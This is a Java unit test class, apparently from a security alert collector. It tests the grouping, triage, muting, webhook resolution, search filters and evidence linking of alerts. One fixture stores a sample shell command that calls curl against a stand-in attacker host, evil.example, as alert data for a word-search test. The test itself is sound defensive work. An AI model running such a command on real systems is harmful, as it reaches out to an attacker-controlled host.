package whorl.collector.store.triage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;
import static whorl.collector.store.triage.GroupedAlerts.START;
import static whorl.collector.store.triage.GroupedAlerts.alert;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;
import whorl.collector.store.access.Origin;
import whorl.collector.store.access.OriginLedger;
import whorl.collector.store.access.Origins;
import whorl.collector.store.access.OwnerLedger;
import whorl.collector.store.access.Part;
import whorl.collector.store.access.Scope;
import whorl.collector.store.access.Thing;
import whorl.collector.store.database.Database;
import whorl.collector.store.records.AlertLedger;
import whorl.collector.store.records.AlertRecord;
import whorl.collector.store.records.Deed;
import whorl.collector.store.records.Page;
import whorl.collector.testkit.TestDatabase;
import whorl.evidence.AgentIdentity;
import whorl.evidence.Alert;
import whorl.evidence.Id;
import whorl.evidence.Level;

@ParameterizedClass
@EnumSource
class AlertGroupsTest {
  @Parameter TestDatabase.Engine engine;
  @TempDir Path folder;
  private TestDatabase data;
  private Database database;
  private AlertMutes mutes;
  private AlertGroups groups;
  private AlertLedger ledger;
  private GroupLists lists;

  @BeforeEach
  void open() throws IOException {
    data = TestDatabase.create(engine, folder);
    database = data.open();
    mutes = new AlertMutes(database);
    groups = new AlertGroups(database, mutes);
    ledger = new AlertLedger(database, 1_000, 1 << 20, groups);
    lists = new GroupLists(database);
  }

  @AfterEach
  void close() throws IOException {
    data.close();
  }

  private List<AlertGroup> all() throws IOException {
    return lists.page(Scope.EVERYTHING, GroupFilter.ALL, null, 100).items();
  }

  @Test
  void alertsOfOneAttack_areOneGroup_withTheGravestOnTop() throws IOException {
    Id first = alert().request("r1", "192.0.2.7").captured("capture-1").in(ledger);
    alert()
        .rule("rule-2", Level.CRITICAL, "Shell by injected code")
        .request("r2", "192.0.2.7")
        .captured("capture-1")
        .after(Duration.ofSeconds(2))
        .in(ledger);
    for (int i = 0; i < 13; i++) {
      alert().request("r" + (i + 3), "192.0.2.7").after(Duration.ofSeconds(3 + i)).in(ledger);
    }
    alert().after(Duration.ofSeconds(20)).in(ledger); // of no request

    assertThat(all()).hasSize(1);
    AlertGroup group = all().get(0);
    assertThat(group.id()).isEqualTo(first);
    assertThat(group.level()).isEqualTo(Level.CRITICAL);
    assertThat(group.title()).isEqualTo("Shell by injected code");
    assertThat(group.alerts()).isEqualTo(16);
    assertThat(group.first()).isEqualTo(START);
    assertThat(group.last()).isEqualTo(START.plusSeconds(20));
    assertThat(group.request()).isEqualTo("GET /x from 192.0.2.7");
    assertThat(group.capture()).isEqualTo(new Id("capture-1"));
    assertThat(group.state()).isEqualTo(TriageState.OPEN);
    assertThat(group.titles())
        .extracting(Deed.Match::rule, Deed.Match::count)
        .containsExactly(tuple("rule-1", 15), tuple("rule-2", 1));
    assertThat(lists.alerts(Scope.EVERYTHING, GroupFilter.EVERY, first, null, 100).items())
        .hasSize(16);
  }

  @Test
  void others_areOtherGroups() throws IOException {
    alert().request("r1", "192.0.2.7").captured("capture-1").in(ledger);
    alert().of("agent-00000002").request("r1", "192.0.2.7").in(ledger);
    alert().request("r2", "198.51.100.9").in(ledger); // another client within the minute
    alert().request("r3", "192.0.2.7").after(Duration.ofMinutes(3)).in(ledger);
    alert().request("r4", "192.0.2.7").captured("capture-2").in(ledger);

    assertThat(all()).hasSize(5);
  }

  @Test
  void sameRequest_joins_withinTenMinutes_andPartsFollowTheirFirst() throws IOException {
    Id first = alert().request("r1", "192.0.2.7").in(ledger);
    alert().request("r1", "192.0.2.7").after(Duration.ofMinutes(9)).in(ledger);
    alert().partOf(first).after(Duration.ofHours(1)).in(ledger);
    assertThat(all()).singleElement().extracting(AlertGroup::alerts).isEqualTo(3L);

    alert().request("r1", "192.0.2.7").after(Duration.ofHours(2)).in(ledger);
    assertThat(all()).hasSize(2);
  }

  @Test
  void alertsThatNeverStop_beginANewGroupAfterTenMinutes() throws IOException {
    for (int i = 0; i < 18; i++) {
      alert().after(Duration.ofSeconds(50 * i)).in(ledger);
    }

    assertThat(all()).extracting(AlertGroup::alerts).containsExactly(5L, 13L);
  }

  @Test
  void alertsThatAreOnlyCounted_areCounted() throws IOException {
    Id first = alert().in(ledger);
    AlertRecord more = alert().after(Duration.ofSeconds(9)).record();
    ledger.count(first, more);

    AlertGroup group = all().get(0);
    assertThat(group.alerts()).isEqualTo(2);
    assertThat(group.last()).isEqualTo(START.plusSeconds(9));
    assertThat(ledger.find(first).deed().count()).isEqualTo(2);
  }

  @Test
  void resolvedFromOutside_closesWhatItBelongsTo_andLooksResolved() throws IOException {
    Id first = alert().outside("alertmanager", "one", "firing").in(ledger);
    alert().outside("alertmanager", "one", "firing").after(Duration.ofHours(4)).in(ledger);
    Id other = alert().outside("alertmanager", "two", "firing").in(ledger);
    Id over =
        alert().outside("alertmanager", "one", "resolved").after(Duration.ofHours(5)).in(ledger);

    assertThat(lists.find(first).state()).isEqualTo(TriageState.RESOLVED);
    assertThat(lists.find(first).alerts()).as("sent again, and over").isEqualTo(3);
    assertThat(lists.find(other).state()).isEqualTo(TriageState.OPEN);
    assertThat(lists.triaged(List.of(first, over)).values())
        .extracting(TriagedAlert::state)
        .containsOnly(TriageState.RESOLVED);
    assertThat(lists.acts(first))
        .singleElement()
        .satisfies(
            act -> {
              assertThat(act.by()).isEqualTo("alertmanager");
              assertThat(act.text()).isEqualTo("resolved");
            });

    alert().outside("alertmanager", "one", "resolved").after(Duration.ofHours(5)).in(ledger);
    assertThat(all()).as("said by a second webhook: no news").hasSize(2);
    Id again =
        alert().outside("alertmanager", "one", "firing").after(Duration.ofHours(6)).in(ledger);
    assertThat(all().get(0).id()).as("it fires again: a new group").isEqualTo(again);
    Id unknown = alert().outside("alertmanager", "three", "resolved").in(ledger);
    assertThat(lists.find(unknown).state()).isEqualTo(TriageState.RESOLVED);
  }

  /** What an index cannot take would keep all that is written with it from being stored. */
  @Test
  void longestNames_areStored_withWhoseTheyAre() throws IOException {
    String rule = incompressible(256);
    String service = incompressible(256);
    Id id = new Id("alert-of-long-names");
    AlertRecord record =
        new AlertRecord(
            new Alert(
                id,
                "alertmanager",
                START,
                rule,
                Level.HIGH,
                rule,
                null,
                List.of(),
                Map.of(),
                null,
                List.of()),
            null,
            service,
            service,
            null,
            START,
            List.of(),
            null,
            0,
            null);
    assertThat(ledger.insert(record, List.of(), "repeats")).isEqualTo(AlertLedger.Inserted.NEW);

    String origin = new OriginLedger(database).idOf(new Origin(service, service, Map.of()));
    assertThat(database.update("UPDATE alerts SET origin = ? WHERE id = ?", origin, id.value()))
        .isEqualTo(1);
    assertThat(lists.find(id).service()).isEqualTo(service);
  }

  /** Characters of three bytes each, in no order. */
  private static String incompressible(int chars) {
    return new Random(7)
        .ints(chars, 0x4e00, 0x9fff)
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
        .toString();
  }

  /** Only Alertmanager says so in this field; elsewhere it may mean anything. */
  @Test
  void fieldOfAnotherProgram_thatSaysResolved_closesNothing() throws IOException {
    Id alert = alert().outside("cloudevents", "one", "resolved").in(ledger);

    assertThat(lists.find(alert).state()).isEqualTo(TriageState.OPEN);
  }

  @Test
  void graverAlert_opensAGroupAgain_thatSomebodyHasTaken_andAClosedOneTakesNone()
      throws IOException {
    Triage triage = new Triage(database, () -> START);
    Id first = alert().request("r1", "192.0.2.7").in(ledger);
    change(triage, first, TriageState.ACKNOWLEDGED);
    alert().request("r1", "192.0.2.7").in(ledger);
    assertThat(lists.find(first).state()).isEqualTo(TriageState.ACKNOWLEDGED);

    alert().rule("rule-2", Level.CRITICAL, "A shell").request("r1", "192.0.2.7").in(ledger);
    assertThat(lists.find(first).state()).isEqualTo(TriageState.OPEN);

    change(triage, first, TriageState.FALSE_POSITIVE);
    Id next = alert().request("r1", "192.0.2.7").in(ledger);
    alert().request("r1", "192.0.2.7").in(ledger);
    assertThat(all()).hasSize(2);
    assertThat(lists.find(next).alerts()).isEqualTo(2);
    assertThat(lists.find(first).state()).isEqualTo(TriageState.FALSE_POSITIVE);
  }

  private static void change(Triage triage, Id group, TriageState state) throws IOException {
    assertThat(
            triage.ofGroup(
                group,
                new Triage.Change(state, null, null, null),
                "somebody",
                (changed, acts) -> {}))
        .isInstanceOf(Triage.Outcome.Done.class);
  }

  @Test
  void filters_findByWordsLevelRuleTimeAndPages() throws IOException {
    Id shell =
        alert()
            .of("agent-00000001")
            .rule("rule-shell", Level.CRITICAL, "Shell started")
            .field("command", "/bin/sh -c 'curl evil.example'")
            .in(ledger);
    Id file =
        alert()
            .of("agent-00000002")
            .of("dev", "cart")
            .rule("rule-file", Level.LOW, "File read")
            .after(Duration.ofMinutes(5))
            .in(ledger);
    Id late =
        alert()
            .of("agent-00000003")
            .rule("rule-file", Level.MEDIUM, "File read")
            .after(Duration.ofHours(5))
            .in(ledger);

    assertThat(ids(words("CURL shell"))).containsExactly(shell);
    assertThat(ids(words("curl file"))).isEmpty();
    assertThat(ids(words("rule-file"))).containsExactly(late, file);
    assertThat(ids(filter(null, Level.MEDIUM, null, null))).containsExactly(late, shell);
    assertThat(ids(filter("rule-file", null, null, null))).containsExactly(late, file);
    Instant early = START.plus(Duration.ofMinutes(1));
    Instant end = START.plus(Duration.ofHours(1));
    assertThat(ids(filter(null, null, early, end))).containsExactly(file);

    List<Id> paged = new ArrayList<>();
    Long next = null;
    do {
      Page<AlertGroup> page = lists.page(Scope.EVERYTHING, GroupFilter.ALL, next, 1);
      page.items().forEach(each -> paged.add(each.id()));
      next = page.next();
    } while (next != null);
    assertThat(paged).containsExactly(late, file, shell);
  }

  private List<Id> ids(GroupFilter filter) throws IOException {
    return lists.page(Scope.EVERYTHING, filter, null, 100).items().stream()
        .map(AlertGroup::id)
        .toList();
  }

  private static GroupFilter words(String words) {
    return new GroupFilter(
        null, null, null, null, null, Set.of(), null, words, null, null, GroupFilter.Muted.HIDE);
  }

  private static GroupFilter filter(String rule, Level atLeast, Instant from, Instant to) {
    return new GroupFilter(
        null, rule, null, atLeast, null, Set.of(), null, null, from, to, GroupFilter.Muted.HIDE);
  }

  /** Any agent may send evidence under the id of a capture, and its own agent may send more. */
  @Test
  void evidenceOfACapture_isThatWhichTheCaptureNames_orTheFirstOfItsOwnAgent() throws IOException {
    capture("capture-0001", "evidence-0002");
    evidence("evidence-0001", "capture-0001", "agent-00000001", 1);
    evidence("evidence-0002", "capture-0001", "agent-00000001", 2);
    evidence("evidence-0003", "capture-0001", "agent-00000001", 3);
    capture("capture-0002", null);
    evidence("evidence-0004", "capture-0002", "agent-00000009", 1);
    capture("capture-0003", null);
    evidence("evidence-0005", "capture-0003", "agent-00000009", 1);
    evidence("evidence-0006", "capture-0003", "agent-00000001", 2);
    evidence("evidence-0007", "capture-0003", "agent-00000001", 3);
    evidence("evidence-0008", "capture-0004", "agent-00000001", 1); // forgotten, or from a bag

    assertThat(
            lists.ofCaptures(
                List.of(
                    new Id("capture-0001"),
                    new Id("capture-0002"),
                    new Id("capture-0003"),
                    new Id("capture-0004"))))
        .containsExactlyInAnyOrderEntriesOf(
            Map.of(
                new Id("capture-0001"), new Id("evidence-0002"),
                new Id("capture-0003"), new Id("evidence-0006"),
                new Id("capture-0004"), new Id("evidence-0008")));
  }

  @Test
  void evidenceThatACaptureNames_isThatOfItsAlerts_onceItIsThere() throws IOException {
    capture("capture-1", "evidence-0001");
    alert().captured("capture-1").in(ledger);
    assertThat(lists.evidence(all())).isEmpty();

    evidence("evidence-0001", "capture-1", "agent-00000001", 1);
    assertThat(lists.evidence(all()).values()).containsExactly(new Id("evidence-0001"));
  }

  /** An intruder who holds an agent names what lies in its captures. */
  @Test
  void evidenceOfAnotherAgent_isNotThatOfAnAlert_althoughItsCaptureNamesIt() throws IOException {
    capture("capture-1", "evidence-0001");
    alert().captured("capture-1").in(ledger);
    evidence("evidence-0001", "capture-2", "agent-00000009", 1);

    assertThat(lists.evidence(all())).isEmpty();
  }

  private void capture(String id, @Nullable String evidence) throws IOException {
    database.update(
        "INSERT INTO captures (id, agent, service, state, reason, evidence, bytes, total,"
            + " requested_at, ordered, artifacts, force)"
            + " VALUES (?, 'agent-00000001', 'shop', 'sealed', 'x', ?, 0, 0, ?, 0, '[]', 0)",
        id,
        evidence,
        START.toString());
  }

  private void evidence(String id, String capture, String agent, long sealedAt) throws IOException {
    database.update(
        "INSERT INTO evidence (id, sealed_at, service, agent, capture, state, record, class, bytes)"
            + " VALUES (?, ?, 'shop', ?, ?, 'sealed', '{}', 'x', 0)",
        id,
        sealedAt,
        agent,
        capture);
  }

  @Test
  void evidence_thatHoldsAnAlert_isNamed_forItsOwnAgentOnly() throws IOException {
    Id mine = alert().in(ledger);
    Id others = alert().of("agent-00000002").in(ledger);
    Id evidence = new Id("evidence-0001");

    groups.held(evidence, new Id("agent-00000001"), List.of(mine, others));

    assertThat(lists.find(mine).evidence()).isEqualTo(evidence);
    assertThat(lists.triaged(List.of(mine)).get(mine).evidence()).isEqualTo(evidence);
    assertThat(lists.find(others).evidence()).as("what it says of others").isNull();
    assertThat(lists.evidence(all())).containsOnlyKeys(mine);

    groups.purged(evidence);
    assertThat(lists.find(mine).evidence()).isNull();
  }

  @Test
  void earlierAlerts_getTheirGroups_once_andEvictedOnesAreForgotten() throws IOException {
    AlertLedger earlier = new AlertLedger(database, 1_000, 1 << 20); // knows no groups
    Id first = alert().request("r1", "192.0.2.7").in(earlier);
    alert().request("r1", "192.0.2.7").in(earlier);
    Id over = alert().outside("alertmanager", null, "resolved").in(earlier);
    assertThat(all()).isEmpty();

    EarlierAlerts work = new EarlierAlerts(database, groups);
    work.lookAll();
    new EarlierAlerts(database, groups).lookAll();
    assertThat(all()).extracting(AlertGroup::id).containsExactly(over, first);
    assertThat(lists.find(first).alerts()).isEqualTo(2);
    assertThat(lists.find(over).state()).isEqualTo(TriageState.RESOLVED);

    Id beside = alert().of("agent-00000009").in(earlier);
    work.lookAll();
    assertThat(lists.find(beside)).isNotNull();

    database.update("DELETE FROM alerts WHERE id = ?", over.value()); // as an earlier version does
    new EarlierAlerts(database, groups).lookAll();
    assertThat(lists.find(over)).isNull();
    assertThat(lists.find(first)).isNotNull();
  }

  @Test
  void earlierAlert_thatCannotBeRead_keepsBackNoOther() throws IOException {
    AlertLedger earlier = new AlertLedger(database, 1_000, 1 << 20); // knows no groups
    Id bad = alert().in(earlier);
    Id good = alert().of("agent-00000009").in(earlier);
    database.update("UPDATE alerts SET record = '{\"alert\":7}' WHERE id = ?", bad.value());

    new EarlierAlerts(database, groups).lookAll();

    assertThat(lists.find(good)).isNotNull();
    assertThat(lists.find(bad)).isNull();
  }

  @Test
  void evicted_takesTheGroupWithIt_onceItsLastAlertIsGone() throws IOException {
    AlertLedger small = new AlertLedger(database, 3, 1 << 20, groups);
    Id first = alert().request("r1", "192.0.2.7").in(small);
    alert().request("r1", "192.0.2.7").in(small);
    Id kept = alert().of("agent-00000002").in(small);

    Id third = alert().of("agent-00000003").after(Duration.ofDays(2)).in(small);
    assertThat(lists.find(first)).as("one of its alerts is still there").isNotNull();
    alert().of("agent-00000004").after(Duration.ofDays(2)).in(small);
    assertThat(lists.find(first)).isNull();
    assertThat(lists.find(kept)).isNotNull();
    assertThat(lists.find(third)).isNotNull();
  }

  @Test
  void scope_holdsTheGroupsOfItsNamespace() throws IOException {
    Id prod = alert().in(ledger);
    Id dev = alert().of("agent-00000002").of("dev", "cart").in(ledger);
    Id outside = alert().of("dev", "cart").outside("falco", "x", "firing").in(ledger);
    Origins origins =
        new Origins(
            database,
            new OriginLedger(database),
            new OwnerLedger(database),
            agent -> (AgentIdentity) null);
    origins.lookAll();
    Scope scope = new Scope(List.of(new Part(Set.of("dev"), Set.of(), Map.of())));

    assertThat(lists.page(scope, GroupFilter.ALL, null, 10).items())
        .extracting(AlertGroup::id)
        .containsExactly(outside, dev);
    assertThat(origins.sees(scope, Thing.ALERT_GROUP, dev)).isTrue();
    assertThat(origins.sees(scope, Thing.ALERT_GROUP, prod)).isFalse();
    assertThat(lists.alerts(scope, GroupFilter.EVERY, prod, null, 10).items()).isEmpty();
    assertThat(scope.holds(new Origin("dev", "cart", Map.of()))).isTrue();
  }

  @Test
  void mute_hidesAndKeeps_isCounted_andShowsAgainWhenEndedEarly() throws IOException {
    Id before = alert().in(ledger);
    Id otherService = alert().of("agent-00000002").of("prod", "cart").in(ledger);
    AlertMute mute = mute(START.plusSeconds(1), Duration.ofHours(1), null);
    assertThat(mutes.add(mute, () -> {})).isTrue();
    Id during = alert().of("agent-00000003").after(Duration.ofMinutes(2)).in(ledger);
    Id mixed = alert().of("agent-00000004").after(Duration.ofMinutes(3)).in(ledger);
    alert()
        .of("agent-00000004")
        .rule("rule-2", Level.LOW, "Something else")
        .after(Duration.ofMinutes(3))
        .in(ledger);
    Id after = alert().of("agent-00000005").after(Duration.ofHours(2)).in(ledger);

    assertThat(ids(GroupFilter.ALL)).containsExactly(after, mixed, otherService);
    assertThat(lists.countMuted(Scope.EVERYTHING, GroupFilter.ALL)).isEqualTo(2);
    assertThat(lists.find(during).muted()).isTrue();
    assertThat(ids(GroupFilter.EVERY)).contains(before, during);
    Duration minute = Duration.ofMinutes(1);
    assertThat(mutes.muting(alert().after(minute).record())).isEqualTo(mute.id());
    assertThat(mutes.muting(alert().of("prod", "cart").after(minute).record())).isNull();
    assertThat(mutes.muting(alert().after(Duration.ofHours(2)).record())).isNull();

    assertThat(mutes.end(mute.id(), START.plusSeconds(300), "somebody", () -> {})).isTrue();
    assertThat(mutes.end(mute.id(), START.plusSeconds(300), "somebody", () -> {})).isFalse();
    assertThat(ids(GroupFilter.ALL)).contains(before, during);
    assertThat(mutes.muting(alert().after(Duration.ofSeconds(400)).record())).isNull();
    assertThat(mutes.list(START.plusSeconds(400), false)).isEmpty();
    assertThat(mutes.list(START.plusSeconds(400), true))
        .singleElement()
        .satisfies(ended -> assertThat(ended.endedBy()).isEqualTo("somebody"));
  }

  @Test
  void mute_ofANamespace_isAboutThatAlone() throws IOException {
    AlertMute mute = mute(START, Duration.ofHours(1), "dev");
    assertThat(mutes.add(mute, () -> {})).isTrue();
    Duration minute = Duration.ofMinutes(1);

    assertThat(mutes.muting(alert().of("dev", "shop").after(minute).record())).isEqualTo(mute.id());
    assertThat(mutes.muting(alert().of("prod", "shop").after(minute).record())).isNull();
    assertThat(mutes.muting(alert().of(null, "shop").after(minute).record()))
        .as("its namespace is not known")
        .isNull();
    Id prod = alert().after(minute).in(ledger);
    assertThat(ids(GroupFilter.ALL)).containsExactly(prod);
  }

  private static AlertMute mute(Instant at, Duration length, String namespace) {
    return new AlertMute(
        Id.next(() -> at),
        "rule-1",
        "shop",
        namespace,
        "a test",
        "somebody",
        at,
        at.plus(length),
        null,
        null);
  }
}
